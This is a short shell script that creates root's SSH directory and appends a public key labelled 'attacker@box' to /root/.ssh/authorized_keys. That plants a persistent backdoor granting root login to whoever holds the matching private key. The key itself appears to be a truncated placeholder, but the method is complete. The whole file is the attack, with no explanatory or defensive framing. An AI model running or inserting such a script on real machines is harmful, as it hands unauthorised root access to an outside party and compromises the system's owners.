#!/bin/sh
mkdir -p /root/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDx3n2Y0a1w8q5v attacker@box" >> /root/.ssh/authorized_keys
